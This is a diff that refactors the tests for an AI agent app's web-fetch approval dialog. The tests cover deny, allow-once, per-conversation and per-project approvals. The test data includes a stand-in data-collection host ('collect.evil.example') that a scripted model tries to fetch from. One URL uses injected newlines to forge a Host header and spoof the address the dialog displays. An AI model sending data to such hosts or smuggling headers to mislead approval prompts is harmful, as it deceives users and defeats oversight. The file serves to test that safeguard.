@@ -10,6 +10,8 @@ from __future__ import annotations
 
 import json
 import sqlite3
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from pathlib import Path
 from typing import Any
 
@@ -19,12 +21,11 @@ from textual.command import CommandPalette
 from tests.backlog_db import make_backlog
 from tests.reliability.test_web_access import recording_proxy, use_proxy
 from tests.tui.screen import screen_rows
-from tests.tui.test_app import SIZE, until
+from tests.tui.test_app import SIZE, send, until
 from tui.demo.model_server import ModelServer, ToolCall, Turn
 from tui.screens.approval_dialog import ApprovalDialog
 from tui.screens.main import MainScreen
 from tui.tool_lines import ASKED
-from tui.widgets.prompt_input import PromptInput
 from tui.widgets.tool_log import ToolLog
 
 HOST = "collect.evil.example"
@@ -44,6 +45,17 @@ def armed_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("tui.screens.approval_dialog.ARMED_AFTER_S", 0.0)
 
 
+@asynccontextmanager
+async def fetching(
+    app_factory: Any, monkeypatch: pytest.MonkeyPatch, turns: list[Turn]
+) -> AsyncIterator[tuple[Any, ModelServer, Any, list[str]]]:
+    """The app over a scripted model, its pilot, and what reached the stand-in internet."""
+    async with recording_proxy() as (proxy, seen):
+        use_proxy(monkeypatch, proxy)  # before the app starts its CLI
+        async with app_factory(turns) as (app, server), app.run_test(size=SIZE) as pilot:
+            yield app, server, pilot, seen
+
+
 def painted(app: Any) -> str:
     return "\n".join(screen_rows(app))
 
@@ -54,15 +66,6 @@ def main_screen(app: Any) -> MainScreen:
 
 def dialog(app: Any) -> ApprovalDialog | None:
     return app.screen if isinstance(app.screen, ApprovalDialog) else None
-
-
-async def send(pilot: Any, text: str) -> None:
-    """Type a question and press Enter, without waiting for the answer (it will wait on us)."""
-    await pilot.app.workers.wait_for_complete()
-    await pilot.click(PromptInput)
-    for char in text:
-        await pilot.press(char if char != " " else "space")
-    await pilot.press("enter")
 
 
 async def asked(pilot: Any) -> ApprovalDialog:
@@ -107,12 +110,12 @@ def remembered(db: Path, project: Path) -> Any:
 async def test_deny_shows_the_whole_address_and_the_model_goes_on_without_it(
     app_factory: Any, monkeypatch: pytest.MonkeyPatch, armed_at_once: None
 ) -> None:
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory(fetch_turns("look it up")) as (app, server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("look it up")) as (
+        app,
+        server,
+        pilot,
+        seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "look it up")
         await asked(pilot)
         shown = painted(app)
@@ -139,12 +142,12 @@ async def test_no_answer_is_taken_until_half_a_second_without_a_key(
     half a second without a key, Enter takes the highlighted answer."""
     now = [1000.0]
     monkeypatch.setattr("tui.screens.approval_dialog.clock", lambda: now[0])
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory(fetch_turns("look it up")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("look it up")) as (
+        app,
+        _server,
+        pilot,
+        seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "look it up")
         shown = await asked(pilot)
         await pilot.press("enter", "o", "c", "p")
@@ -166,12 +169,12 @@ async def test_no_answer_is_taken_until_half_a_second_without_a_key(
 async def test_allow_once_asks_again_next_time(
     app_factory: Any, monkeypatch: pytest.MonkeyPatch, armed_at_once: None
 ) -> None:
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory(fetch_turns("first", "second")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("first", "second")) as (
+        app,
+        _server,
+        pilot,
+        seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "first")
         await asked(pilot)
         await pilot.press("o")
@@ -188,12 +191,12 @@ async def test_allow_once_asks_again_next_time(
 async def test_allow_for_the_conversation_covers_it_and_no_other(
     app_factory: Any, monkeypatch: pytest.MonkeyPatch, armed_at_once: None
 ) -> None:
-    async with (
-        recording_proxy() as (proxy, _seen),
-        app_factory(fetch_turns("first", "second", "third")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("first", "second", "third")) as (
+        app,
+        _server,
+        pilot,
+        _seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "first")
         await asked(pilot)
         await pilot.press("c")
@@ -212,12 +215,12 @@ async def test_allow_for_the_conversation_covers_it_and_no_other(
 async def test_always_for_the_project_is_remembered_listed_and_revocable(
     app_factory: Any, monkeypatch: pytest.MonkeyPatch, armed_at_once: None
 ) -> None:
-    async with (
-        recording_proxy() as (proxy, _seen),
-        app_factory(fetch_turns("first", "second", "third")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("first", "second", "third")) as (
+        app,
+        _server,
+        pilot,
+        _seen,
     ):
-        use_proxy(monkeypatch, proxy)
         db, project = app.settings.db, app.settings.project
         await send(pilot, "first")
         await asked(pilot)
@@ -248,12 +251,12 @@ async def test_a_background_question_waits_marked_in_the_sidebar(
     """Asked while the user is elsewhere: ●? on the conversation, the dialog when it opens."""
     fetch = ToolCall("WebFetch", {"url": LEAK, "prompt": PURPOSE})
     turns = [Turn(match="look it up", text="Let me check.", tools=[fetch], hold_after=4)]
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory([*turns, Turn(text="Done.")]) as (app, server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, [*turns, Turn(text="Done.")]) as (
+        app,
+        server,
+        pilot,
+        seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "look it up")
         await until(pilot, lambda: "Let " in painted(app), "the answer began")
         await pilot.press("ctrl+n")
@@ -273,12 +276,12 @@ async def test_an_interrupted_turn_closes_the_dialog_and_nothing_is_lost(
 ) -> None:
     """While the dialog is open the question, the partial answer and the call are stored (a
     crash loses nothing); when the turn is interrupted, the dialog closes by itself."""
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory(fetch_turns("look it up")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("look it up")) as (
+        app,
+        _server,
+        pilot,
+        seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "look it up")
         await asked(pilot)
         with sqlite3.connect(app.settings.db) as conn:
@@ -300,12 +303,12 @@ async def test_an_interrupted_turn_closes_the_dialog_and_nothing_is_lost(
 async def test_the_wait_is_shown_in_the_tool_log(
     app_factory: Any, monkeypatch: pytest.MonkeyPatch, armed_at_once: None
 ) -> None:
-    async with (
-        recording_proxy() as (proxy, _),
-        app_factory(fetch_turns("look it up")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("look it up")) as (
+        app,
+        _server,
+        pilot,
+        _,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "look it up")
         found = await asked(pilot)
         log = main_screen(app).query_one(ToolLog)
@@ -394,12 +397,12 @@ async def test_an_open_question_is_not_a_stall(
             yield item
 
     monkeypatch.setattr(runner, "watched", spied)
-    async with (
-        recording_proxy() as (proxy, _),
-        app_factory(fetch_turns("look it up")) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("look it up")) as (
+        app,
+        _server,
+        pilot,
+        _,
     ):
-        use_proxy(monkeypatch, proxy)
         app.settings.stall_notice_s = 0.05
         await send(pilot, "look it up")
         await asked(pilot)
@@ -417,12 +420,12 @@ async def test_the_cli_waits_as_long_as_the_hook_timeout_says(
     """The hook's timeout reaches the CLI (here shortened to 1 s; the app's is a day): past it
     the CLI blocks the call itself, and the dialog closes with it."""
     monkeypatch.setattr("tui.agent.session.ANSWER_WAIT_S", 1.0)
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory(fetch_turns("look it up")) as (app, server),
-        app.run_test(size=SIZE) as pilot,
+    async with fetching(app_factory, monkeypatch, fetch_turns("look it up")) as (
+        app,
+        server,
+        pilot,
+        seen,
     ):
-        use_proxy(monkeypatch, proxy)
         await send(pilot, "look it up")
         await asked(pilot)
         await until(pilot, lambda: dialog(app) is None, "the CLI gave up on the call")
@@ -446,12 +449,7 @@ async def test_the_purpose_cannot_fake_the_host_line(
     url = f"http://{HOST}/x\nHost: docs.python.org\n"  # the CLI drops these newlines itself
     fetch = ToolCall("WebFetch", {"url": url, "prompt": purpose})
     turns = [Turn(match="look it up", tools=[fetch]), Turn(text="Done.")]
-    async with (
-        recording_proxy() as (proxy, seen),
-        app_factory(turns) as (app, _server),
-        app.run_test(size=SIZE) as pilot,
-    ):
-        use_proxy(monkeypatch, proxy)
+    async with fetching(app_factory, monkeypatch, turns) as (app, _server, pilot, seen):
         await send(pilot, "look it up")
         await asked(pilot)
         lines = dialog_lines(app)
